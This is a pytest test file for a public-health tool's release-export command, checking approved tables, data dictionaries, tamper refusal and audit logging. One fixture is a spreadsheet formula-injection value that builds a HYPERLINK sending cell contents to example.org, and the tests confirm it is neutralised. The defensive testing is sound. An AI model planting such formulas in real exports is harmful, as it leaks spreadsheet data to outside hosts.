"""`phm export`: every approved release's tables, exactly as approved, in the formats analysts'
tools read (CSV, Parquet, one Excel workbook), with a data dictionary; nothing unapproved, no
file changed since it was checked, no cell a spreadsheet would run."""

from __future__ import annotations

import pandas as pd
import pytest
from openpyxl import load_workbook

from openphm.disclosure.checking import approve_release
from openphm.disclosure.export import export, read_released
from openphm.disclosure.releases import ReleaseError, request_release, save_draft
from openphm.governance.audit import Actor
from openphm.governance.roles import Refused

CHECKER = Actor("oscar", "output-checker")
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"x")'


def _draft(ws, name, practices, people, description):
    cells = pd.DataFrame(
        {
            "practice": practices,
            "imd_decile": ["01", "10"] * (len(practices) // 2),
            "people": people,
            "population": [10012, 7455] * (len(practices) // 2),
        }
    )
    con = ws.connect_linked()
    save_draft(
        con,
        name,
        cells,
        groups=["practice", "imd_decile"],
        counts=["people", "population"],
        rates={"per_1000": ("people", "population")},
        per=1000,
        description=description,
    )
    con.close()


@pytest.fixture
def releases(workspace, analyst):
    """One approved release (two tables) and one still awaiting its checker."""
    _draft(workspace, "copd", ["Y10001", FORMULA], [1403, 977], "COPD register by practice")
    _draft(workspace, "frailty", ["Y10001", "Y10002"], [3, 41], "moderate or severe frailty")
    _draft(workspace, "pending", ["Y10001", "Y10002"], [220, 310], "not yet checked")
    approved = request_release(
        workspace, analyst, ["copd", "frailty"], purpose="prevention", title="Registers"
    )
    approve_release(workspace, CHECKER, approved["id"])
    waiting = request_release(workspace, analyst, ["pending"], purpose="prevention", title="W")
    return workspace, approved["id"], waiting["id"]


def _released_csv(ws, release_id, table):
    return pd.read_csv(ws.zone("outputs") / "releases" / release_id / f"{table}.csv", dtype=str)


def test_csv_export_holds_the_approved_tables_as_released_and_nothing_awaiting(
    releases, analyst, tmp_path
):
    ws, approved, waiting = releases
    written = export(ws, analyst, tmp_path / "out", "csv")
    names = sorted(p.name for p in written)
    assert names == sorted([f"{approved}__copd.csv", f"{approved}__frailty.csv",
                            "data_dictionary.csv"])  # fmt: skip
    assert not any(waiting in n for n in names)
    for table in ("copd", "frailty"):
        exported = pd.read_csv(tmp_path / "out" / f"{approved}__{table}.csv", dtype=str)
        pd.testing.assert_frame_equal(exported, _released_csv(ws, approved, table))
    # As disclosure control released them (hand-worked): 1,403 to 1,405, 3 blank, codes as text.
    copd = pd.read_csv(tmp_path / "out" / f"{approved}__copd.csv", dtype=str)
    assert copd["people"].tolist() == ["1405", "975"]
    assert copd["imd_decile"].tolist() == ["01", "10"]
    assert copd["practice"].tolist()[1] == "'" + FORMULA  # never a formula in a spreadsheet
    frailty = pd.read_csv(tmp_path / "out" / f"{approved}__frailty.csv")
    assert frailty.loc[0, "people"] != frailty.loc[0, "people"]  # 3 is suppressed: blank


def test_parquet_keeps_types_codes_and_blanks(releases, analyst, tmp_path):
    ws, approved, _ = releases
    export(ws, analyst, tmp_path / "out", "parquet")
    copd = pd.read_parquet(tmp_path / "out" / f"{approved}__copd.parquet")
    assert copd["people"].tolist() == [1405, 975]
    assert pd.api.types.is_integer_dtype(copd["people"])
    assert copd["imd_decile"].tolist() == ["01", "10"]  # a code with a leading zero stays text
    frailty = pd.read_parquet(tmp_path / "out" / f"{approved}__frailty.parquet")
    assert pd.isna(frailty.loc[0, "people"]) and pd.isna(frailty.loc[0, "per_1000"])


def test_the_workbook_has_a_sheet_a_table_and_no_formula(releases, analyst, tmp_path):
    ws, approved, _ = releases
    (book,) = export(ws, analyst, tmp_path / "out", "xlsx")
    workbook = load_workbook(book)
    assert workbook.sheetnames == ["data_dictionary", f"{approved}__copd", f"{approved}__frailty"]
    cells = [c for row in workbook[f"{approved}__copd"].iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in cells]
    assert [c.value for c in workbook[f"{approved}__copd"]["C"]][1:] == [1405, 975]


def test_the_dictionary_names_every_column_its_release_approver_and_control(
    releases, analyst, tmp_path
):
    ws, approved, _ = releases
    export(ws, analyst, tmp_path / "out", "csv")
    described = pd.read_csv(tmp_path / "out" / "data_dictionary.csv", dtype=str)
    copd = described[described["table"] == f"{approved}__copd"]
    assert copd["column"].tolist() == ["practice", "imd_decile", "people", "population",
                                       "per_1000"]  # fmt: skip
    assert set(described["approved_by"]) == {"oscar"}
    assert set(described["purpose"]) == {"prevention"}
    row = described[(described["table"] == f"{approved}__frailty")
                    & (described["column"] == "people")].iloc[0]  # fmt: skip
    assert row["type"] == "integer" and "1 suppressed" in row["cells"]
    assert "counts of 1 to 7 suppressed" in row["disclosure_control"]
    assert row["description"] == "moderate or severe frailty"


def test_a_file_changed_since_it_was_checked_is_refused(releases, analyst, tmp_path):
    ws, approved, _ = releases
    released = ws.zone("outputs") / "releases" / approved / "copd.csv"
    released.write_text(released.read_text().replace("1405", "1403"))
    with pytest.raises(ReleaseError, match="changed after the request"):
        export(ws, analyst, tmp_path / "out", "csv")
    assert not (tmp_path / "out").exists()


def test_naming_a_release_not_approved_is_refused(releases, analyst, tmp_path):
    ws, _, waiting = releases
    with pytest.raises(ReleaseError, match="only an approved release"):
        export(ws, analyst, tmp_path / "out", "csv", [waiting])
    with pytest.raises(ReleaseError, match="no release nope"):
        export(ws, analyst, tmp_path / "out", "csv", ["nope"])


def test_each_export_is_recorded_and_a_practice_may_not_export(releases, analyst, tmp_path):
    ws, _, _ = releases
    export(ws, analyst, tmp_path / "out", "parquet")
    last = list(ws.audit.entries())[-1]
    assert (last.action, last.outcome, last.user) == ("release.download", "ok", "test-analyst")
    assert any("export (parquet)" in w for w in last.writes)
    with pytest.raises(Refused):
        export(ws, Actor("p", "practice"), tmp_path / "again", "csv")
    last = list(ws.audit.entries())[-1]
    assert (last.action, last.outcome) == ("release.download", "refused")


def test_read_released_keeps_text_that_looks_numeric_only_with_a_leading_zero(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("code,n,rate\n007,10,1.5\n12,,2\n")
    frame = read_released(path)
    assert frame["code"].tolist() == ["007", "12"]
    assert frame["n"].tolist()[0] == 10 and pd.isna(frame["n"].tolist()[1])
    assert frame["rate"].tolist() == [1.5, 2.0]


def test_phm_export_writes_the_files_it_names(releases, cli, tmp_path, monkeypatch):
    ws, _, _ = releases
    from openphm.governance import roles

    monkeypatch.setattr(roles, "identify", lambda: "test-analyst")
    result = cli(["export", ws.root, "--to", tmp_path / "x", "--format", "xlsx",
                  "--role", "analyst"])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "openphm-releases.xlsx" in result.output
    bad = cli(["export", ws.root, "--to", tmp_path / "y", "--format", "pdf", "--role", "analyst"])
    assert bad.exit_code == 2 and "choose one of csv, parquet, xlsx" in bad.output
